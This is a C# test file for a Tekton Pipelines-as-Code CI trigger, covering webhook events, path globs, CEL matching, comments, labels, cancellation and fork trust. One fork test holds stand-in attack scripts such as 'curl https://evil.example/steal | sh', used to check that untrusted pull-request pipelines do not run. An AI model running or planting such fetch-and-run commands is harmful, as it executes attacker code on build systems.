using System.Globalization;
using System.Text.Json.Nodes;
using Mothership.Ci.PipelinesAsCode;
using Mothership.Ci.Triggers;
using Mothership.Model.Tekton;
using Mothership.Store;
using Mothership.Testing.GitHub;

namespace Mothership.Ci.Tests.Triggers;

/// <summary>
/// Pipelines-as-Code on the trigger: GitHub's webhook payloads, the fake GitHub serving
/// <c>.tekton/</c> at the refs a case sets, and the runs the trigger starts.
/// </summary>
public sealed class JobTriggerPipelinesAsCodeTests
{
    private const string Config = "pipelines_as_code: [Codertocat/Hello-World]\n";
    private const string Head = "ec26c3e57ca3a959ca5aad62de7213c562f8c821";
    private const string NewHead = "1111111111111111111111111111111111111111";
    private const string MasterSha = "2222222222222222222222222222222222222222";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    /// <summary>A PipelineRun whose one step prints <paramref name="script"/>, with these annotations (already indented).</summary>
    private static string Run(string name, string annotations, string script = "echo {{revision}}") => $$$"""
        apiVersion: tekton.dev/v1
        kind: PipelineRun
        metadata:
          name: {{{name}}}
          annotations:
        {{{annotations}}}
        spec:
          pipelineSpec:
            tasks:
            - name: build
              taskSpec:
                steps:
                - name: build
                  image: alpine
                  script: {{{script}}}
        """;

    private static string OnPullRequest(string branches = "[master]") => $"""
            pipelinesascode.tekton.dev/on-event: "[pull_request]"
            pipelinesascode.tekton.dev/on-target-branch: "{branches}"
        """;

    private static string Script(Resource run) => ((PipelineRun)run).Spec.PipelineSpec!.Tasks.Single(t => t.Name == "build").TaskSpec!.Steps[0].Script!;

    private static string Name(Resource run) => run.Metadata.Labels[PacAnnotations.OriginalPipelineRunName];

    private static async Task<(TriggerHarness H, FakeIssue Pr)> TrustedPullRequestAsync(params FakePullRequestFile[] files)
    {
        var h = await TriggerHarness.StartAsync(Config);
        h.Repository.AddCollaborator("Codertocat");
        h.Repository.SetBranch("master", MasterSha);
        var pr = h.Repository.AddPullRequest("Codertocat", Head, "changes", "master", files: files.Length == 0 ? [new("src/app.go")] : files);
        return (h, pr);
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_TrustedPullRequest_StartsTheMatchingPipelineRunsFromTheHeadWithPacsVariables()
    {
        var (h, pr) = await TrustedPullRequestAsync();
        await using var _ = h;
        h.Repository.SetFile(Head, ".tekton/pr.yaml", Run("pr", OnPullRequest("[main, mas*]"),
            "echo {{revision}} {{repo_url}} {{repo_owner}} {{repo_name}} {{pull_request_number}} {{source_branch}} {{ target_branch }} {{sender}} {{event_type}} {{unknown}}"));
        h.Repository.SetFile(Head, ".tekton/push.yaml", Run("on-push", """
                pipelinesascode.tekton.dev/on-event: "[push]"
                pipelinesascode.tekton.dev/on-target-branch: "[master]"
            """));
        h.Repository.SetFile(Head, ".tekton/release.yaml", Run("release", OnPullRequest("[release-*]")));
        h.Repository.SetFile(Head, ".tekton/no-branch.yaml", Run("no-branch", """
                pipelinesascode.tekton.dev/on-event: "[pull_request]"
            """));
        h.Repository.SetFile(Head, "README.md", "not a pipeline");

        var outcome = await h.HandleAsync(h.PullRequest("opened", pr, id: "d-1"));

        Assert.Contains("pac (.tekton at " + Head + "): started pr", outcome, StringComparison.Ordinal);
        var run = Assert.IsType<PipelineRun>(Assert.Single(h.Started));
        Assert.Equal("pr", Name(run));
        Assert.Equal($"echo {Head} https://github.com/Codertocat/Hello-World codertocat hello-world {pr.Number} changes master codertocat pull_request {{{{unknown}}}}", Script(run));
        Assert.DoesNotContain(run.Spec.PipelineSpec!.Tasks, t => t.Name == CloneRefs.Name);
        Assert.DoesNotContain(run.Spec.Params, p => p.Name == "JOB_SPEC");
        Assert.Equal((Head, "Codertocat-Hello-World", pr.Number.ToString(CultureInfo.InvariantCulture), "pull_request"),
            (run.Metadata.Labels[PacAnnotations.Sha], run.Metadata.Labels[PacAnnotations.Repository], run.Metadata.Labels[PacAnnotations.PullRequest], run.Metadata.Labels[PacAnnotations.EventType]));
        var result = Assert.Single(await h.Store.ListJobResultsAsync(new JobResultQuery { Repository = TriggerHarness.FullName, Pull = pr.Number }, Ct));
        Assert.Equal(("pr", "Pipelines as Code CI / pr", Head), (result.Job, result.Context, result.Sha));
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_PipelineRunDeclaresSource_GetsTheCheckoutInIt()
    {
        var (h, pr) = await TrustedPullRequestAsync();
        await using var _ = h;
        h.Repository.SetFile(Head, ".tekton/pr.yaml", $$"""
            apiVersion: tekton.dev/v1
            kind: PipelineRun
            metadata:
              generateName: with-source-
              annotations:
            {{OnPullRequest()}}
            spec:
              pipelineRef:
                name: build
            ---
            apiVersion: tekton.dev/v1
            kind: Pipeline
            metadata:
              name: build
            spec:
              workspaces:
              - name: source
              tasks:
              - name: build
                workspaces:
                - name: source
                  workspace: source
                taskRef:
                  name: make
            ---
            apiVersion: tekton.dev/v1
            kind: Task
            metadata:
              name: make
            spec:
              workspaces:
              - name: source
              steps:
              - name: make
                image: alpine
                script: make -C $(workspaces.source.path)
            """);

        await h.HandleAsync(h.PullRequest("opened", pr));

        var run = Assert.IsType<PipelineRun>(Assert.Single(h.Started));
        Assert.Equal("with-source", Name(run));
        var pipeline = run.Spec.PipelineSpec!;
        Assert.Equal([CloneRefs.Name, "build"], pipeline.Tasks.Select(t => t.Name));
        Assert.Equal("make", pipeline.Tasks[1].TaskSpec!.Steps[0].Name);
        Assert.Contains(run.Spec.Workspaces, w => w.Name == CloneRefs.Workspace);
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_PathAnnotations_MatchTheChangedFilesWithGlobs()
    {
        var (h, pr) = await TrustedPullRequestAsync(new("docs/guide/intro.md"), new("docs/generated/api.md"));
        await using var _ = h;
        h.Repository.SetFile(Head, ".tekton/docs.yaml", Run("docs", OnPullRequest() + "\n    pipelinesascode.tekton.dev/on-path-change: \"[docs/**.md]\""));
        h.Repository.SetFile(Head, ".tekton/go.yaml", Run("go", OnPullRequest() + "\n    pipelinesascode.tekton.dev/on-path-change: \"[***.go]\""));
        h.Repository.SetFile(Head, ".tekton/not-generated.yaml", Run("not-generated", OnPullRequest() + "\n    pipelinesascode.tekton.dev/on-path-change-ignore: \"[docs/generated/**]\""));
        h.Repository.SetFile(Head, ".tekton/not-markdown.yaml", Run("not-markdown", OnPullRequest() + "\n    pipelinesascode.tekton.dev/on-path-change-ignore: \"[README.md, src/**]\""));

        await h.HandleAsync(h.PullRequest("opened", pr));

        Assert.Equal(["docs", "not-markdown"], h.Started.Select(Name).Order(StringComparer.Ordinal));
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_CelExpression_DecidesAloneAndAnUnsupportedVariableIsReportedNotGuessed()
    {
        var (h, pr) = await TrustedPullRequestAsync(new FakePullRequestFile("src/app.go"));
        await using var _ = h;
        h.Repository.SetFile(Head, ".tekton/cel.yaml", Run("cel", $$"""
                pipelinesascode.tekton.dev/on-event: "[push]"
                pipelinesascode.tekton.dev/on-cel-expression: >-
                  event == "pull_request" && target_branch == "master" && source_branch.startsWith("chan")
                  && "src/*.go".pathChanged() && files.modified.exists(f, f.matches("app")) && body.pull_request.number == {{pr.Number}}
                  && headers["x-github-event"] == "pull_request"
            """));
        h.Repository.SetFile(Head, ".tekton/cel-false.yaml", Run("cel-false", """
                pipelinesascode.tekton.dev/on-cel-expression: event == "pull_request" && "docs/*".pathChanged()
            """));
        h.Repository.SetFile(Head, ".tekton/custom-param.yaml", Run("custom-param", """
                pipelinesascode.tekton.dev/on-cel-expression: enable_ci == "true"
            """));

        var outcome = await h.HandleAsync(h.PullRequest("opened", pr));

        Assert.Equal(["cel"], h.Started.Select(Name));
        var error = Assert.Single(h.StatusesOn(Head), s => s.Context == "Pipelines as Code CI / custom-param");
        Assert.Equal("error", error.State);
        Assert.StartsWith("pipelinesascode.tekton.dev/on-cel-expression: Undeclared reference to 'enable_ci'", error.Description, StringComparison.Ordinal);
        Assert.Contains("custom params do not exist here", outcome, StringComparison.Ordinal);
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_UntrustedFork_RunsTheDefaultBranchsDefinitionsNeverThePullRequests()
    {
        await using var h = await TriggerHarness.StartAsync(Config);
        h.GitHub.Organization("Codertocat").AddMember("maintainer");
        h.Repository.SetBranch("master", MasterSha);
        h.Repository.SetFile("master", ".tekton/pr.yaml", Run("pr", OnPullRequest(), "make test"));
        var pr = h.Repository.AddPullRequest("outsider", Head, "evil", "master", files: [new(".tekton/pr.yaml")]);
        h.Repository.SetFile(Head, ".tekton/pr.yaml", Run("pr", OnPullRequest(), "curl https://evil.example/steal | sh"));
        h.Repository.SetFile(Head, ".tekton/extra.yaml", Run("extra", OnPullRequest(), "curl https://evil.example/more | sh"));

        var opened = await h.HandleAsync(h.PullRequest("opened", pr));
        Assert.Contains("waiting for /ok-to-test", opened, StringComparison.Ordinal);
        Assert.Empty(h.Started);

        // The outsider asking runs nothing; a member asking runs the default branch's definition on the pull request's commit.
        await h.HandleAsync(h.Comment(pr, "outsider", "/test pr"));
        Assert.Empty(h.Started);
        var tested = await h.HandleAsync(h.Comment(pr, "maintainer", "/test all"));

        Assert.Contains("pac (.tekton at master)", tested, StringComparison.Ordinal);
        var run = Assert.Single(h.Started);
        Assert.Equal(("pr", "make test", Head), (Name(run), Script(run), run.Metadata.Labels[PacAnnotations.Sha]));
        Assert.DoesNotContain(h.Repository.CommentsOn(pr.Number), c => c.Body.Contains("were not found", StringComparison.Ordinal));

        // Once a member vouches for the commit (having read it), its own definitions run.
        await h.HandleAsync(h.Comment(pr, "maintainer", "/ok-to-test"));
        Assert.Equal(["curl https://evil.example/more | sh", "curl https://evil.example/steal | sh"], h.Started.Skip(1).Select(Script).Order(StringComparer.Ordinal));
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_TestAndRetestByName_RunThatPipelineRunAndNoHelpReply()
    {
        var (h, pr) = await TrustedPullRequestAsync();
        await using var _ = h;
        h.Repository.SetFile(Head, ".tekton/a.yaml", Run("lint", OnPullRequest()));
        h.Repository.SetFile(Head, ".tekton/b.yaml", Run("manual", "    pipelinesascode.tekton.dev/on-comment: \"^/never$\""));

        await h.HandleAsync(h.Comment(pr, "Codertocat", "/test manual"));
        await h.HandleAsync(h.Comment(pr, "Codertocat", "/retest lint"));

        Assert.Equal(["manual", "lint"], h.Started.Select(Name));
        Assert.Empty(h.Repository.CommentsOn(pr.Number));
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_OnComment_StartsOnlyTheMatchingPipelineRunsForTrustedCommenters()
    {
        var (h, pr) = await TrustedPullRequestAsync();
        await using var _ = h;
        h.Repository.SetFile(Head, ".tekton/merge.yaml", Run("merge-pr", "    pipelinesascode.tekton.dev/on-comment: \"^/merge-pr\"", "echo {{event_type}}"));
        h.Repository.SetFile(Head, ".tekton/pr.yaml", Run("pr", OnPullRequest()));

        var ignored = await h.HandleAsync(h.Comment(pr, "stranger", "/merge-pr"));
        Assert.Empty(h.Started);
        Assert.Contains("untrusted stranger", ignored, StringComparison.Ordinal);
        await h.HandleAsync(h.Comment(pr, "Codertocat", "nice work"));
        Assert.Empty(h.Started);

        await h.HandleAsync(h.Comment(pr, "Codertocat", "  /merge-pr now\n"));

        var run = Assert.Single(h.Started);
        Assert.Equal(("merge-pr", "echo on-comment"), (Name(run), Script(run)));
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_LabelAdded_StartsOnlyThePipelineRunsOnThatLabel()
    {
        var (h, pr) = await TrustedPullRequestAsync();
        await using var _ = h;
        h.Repository.SetFile(Head, ".tekton/bugs.yaml", Run("bugs", OnPullRequest() + "\n    pipelinesascode.tekton.dev/on-label: \"[bug, defect]\""));
        h.Repository.SetFile(Head, ".tekton/pr.yaml", Run("pr", OnPullRequest()));

        await h.HandleAsync(Labeled(h, pr, "documentation"));
        Assert.Empty(h.Started);
        await h.HandleAsync(Labeled(h, pr, "bug"));

        Assert.Equal(["bugs"], h.Started.Select(Name));
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_CancelInProgress_ANewRunForThePullRequestCancelsTheRunningOneOnly()
    {
        var (h, pr) = await TrustedPullRequestAsync();
        await using var _ = h;
        var definitions = new[]
        {
            (".tekton/cancel.yaml", Run("cancelling", OnPullRequest() + "\n    pipelinesascode.tekton.dev/cancel-in-progress: \"true\"")),
            (".tekton/keep.yaml", Run("keeping", OnPullRequest())),
        };
        foreach (var (path, text) in definitions)
        {
            h.Repository.SetFile(Head, path, text);
            h.Repository.SetFile(NewHead, path, text);
        }

        await h.HandleAsync(h.PullRequest("opened", pr));
        var first = h.Started.ToDictionary(Name, r => r.Metadata.Name!);
        pr.HeadSha = NewHead;
        var outcome = await h.HandleAsync(h.PullRequest("synchronize", pr));

        Assert.Equal(4, h.Started.Count);
        Assert.Equal([first["cancelling"]], h.Runs.Cancelled);
        Assert.Contains("1 run(s) of cancelling cancelled in progress", outcome, StringComparison.Ordinal);
        var cancelled = h.StatusesOn(Head).Last(s => s.Context == "Pipelines as Code CI / cancelling");
        Assert.Equal("failure", cancelled.State);
    }

    [Fact(Timeout = 30_000)]
    public async Task HandleAsync_Push_StartsThePushPipelineRunsOfThePushedCommit()
    {
        await using var h = await TriggerHarness.StartAsync(Config);
        h.Repository.SetFile(NewHead, ".tekton/push.yaml", Run("on-push", """
                pipelinesascode.tekton.dev/on-event: "[push]"
                pipelinesascode.tekton.dev/on-target-branch: "[refs/heads/master]"
                pipelinesascode.tekton.dev/max-keep-runs: "2"
            """, "echo {{target_branch}} {{event_type}} {{sender}}"));
        h.Repository.SetFile(NewHead, ".tekton/pr.yaml", Run("pr", OnPullRequest()));

        var outcome = await h.HandleAsync(h.Push("master", NewHead, "src/app.go"));

        Assert.Contains("started on-push", outcome, StringComparison.Ordinal);
        var run = Assert.Single(h.Started);
        Assert.Equal("echo master push codertocat", Script(run));
        Assert.Equal("2", run.Metadata.Annotations[PacAnnotations.MaxKeepRuns]);
    }

    private static WebhookDelivery Labeled(TriggerHarness h, FakeIssue pr, string label)
    {
        var delivery = h.PullRequest("labeled", pr, labels: [label]);
        var root = JsonNode.Parse(delivery.Payload)!;
        root["label"] = new JsonObject { ["name"] = label };
        return delivery with { Payload = root.ToJsonString() };
    }
}
